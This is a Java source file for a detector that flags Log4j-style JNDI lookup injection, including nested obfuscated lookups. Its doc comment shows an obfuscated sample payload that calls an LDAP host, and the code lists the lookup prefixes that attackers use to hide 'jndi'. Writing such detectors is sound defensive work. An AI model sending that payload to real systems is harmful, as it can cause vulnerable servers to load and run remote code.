package dev.portcullis.attack;

import dev.portcullis.attack.Words.Line;
import java.util.List;

/**
 * Lookups that a logging library would resolve.
 *
 * <p>Looks for: <code>${jndi:</code> and the lookups that hide it, one inside of another.
 *
 * <p>Does not look for: placeholders of a mere name.
 *
 * <p>Caught: <code>${${lower:j}ndi:ldap://203.0.113.7/a}</code>
 *
 * <p>Let through: <code>${user.home}/notes</code>
 */
final class JndiLookup implements Detector {

    private static final Words<Suspicion> LOOKUPS = Words.of(List.of(
            new Line<>(Suspicion.CERTAIN, "jndi"),
            new Line<>(
                    Suspicion.STRONG,
                    "lower upper env sys java ctx base64 k8s docker script dns log4j spring base64decoder base64encoder urldecoder urlencoder"),
            new Line<>(
                    Suspicion.FAINT, "date main bundle marker url const sd map file xml properties resourcebundle")));

    /** Those that read what the second part of their key names. */
    private static final Words<Boolean> READING = Words.set("url file xml properties bundle resourcebundle");

    private static final int MOST_COLONS = 8;

    @Override
    public String id() {
        return "jndi-lookup";
    }

    @Override
    public int attractors(Place place) {
        return Traits.DOLLAR;
    }

    /** In a document, such as the settings of a logger, what no settings hold. */
    @Override
    public Finding inDocument(Sample sample, Finding found) {
        return found.isCertain() ? found : Finding.NONE;
    }

    /** In a line, nothing, for the whole was told already. */
    @Override
    public Finding inLine(Sample line, Finding found) {
        return Finding.NONE;
    }

    @Override
    public boolean countsInLine() {
        return false;
    }

    @Override
    public long hangsOn(Place place) {
        return Signs.LOOKUP;
    }

    @Override
    public Finding look(Text text, Place place) {
        var finding = Finding.NONE;
        var close = 0;
        var around = -1;
        for (var i = text.next('$', 0); i < text.length() && !finding.isCertain(); i = text.next('$', i + 1)) {
            if (text.at(i + 1) == '{') {
                finding = finding.or(lookup(text, i, close > i && !isDefault(text, around)));
                around = i;
                close = close > i ? close : text.next('}', i);
            }
        }
        return finding;
    }

    /** The index behind a row of colons: {@code ::-j} is a letter, and {@code ::name} a variable of Tcl. */
    private static int colonsEnd(Text text, int from) {
        var i = from;
        while (text.at(i) == ':' && i < from + MOST_COLONS) {
            i++;
        }
        return i;
    }

    /** Tells whether what stands in the lookup is taken when a variable is not set, as scripts have it: no name is made of that. */
    private static boolean isDefault(Text text, int at) {
        var end = text.wordEnd(at + 2);
        return end > at + 2 && text.at(end) == ':' && "-=?+".indexOf(text.at(end + 1)) >= 0;
    }

    /** Tells whether a property in capital letters is named, as applications set them for their logs and no JVM has by itself. */
    private static boolean isOwnProperty(Text text, int from) {
        var i = from;
        while (text.at(i) >= 'A' && text.at(i) <= 'Z' || text.at(i) == '_') {
            i++;
        }
        return i > from + 1 && (text.at(i) == '}' || text.says(":-", i));
    }

    private static Finding lookup(Text text, int at, boolean nested) {
        var from = text.skipSpace(at + 2);
        var end = text.wordEnd(from);
        if (text.at(end) != ':') {
            return Finding.NONE;
        }
        if (nested || end == from && text.at(colonsEnd(text, end)) == '-') {
            return Finding.certain(at);
        }
        var known = LOOKUPS.find(text, from, end);
        if (known == null) {
            return Finding.NONE;
        }
        if (text.says("sys:", from) && isOwnProperty(text, end + 1)) {
            return Finding.NONE;
        }
        if (READING.has(text, from, end) && text.next(':', end + 1) < text.next('}', end)) {
            return Finding.strong(at);
        }
        // What a shell takes when the variable is not set, as in ${JAVA:-java}; a lookup has a key behind the colon.
        return text.at(end + 1) == '-' ? Finding.faint(at) : new Finding(known, at);
    }
}
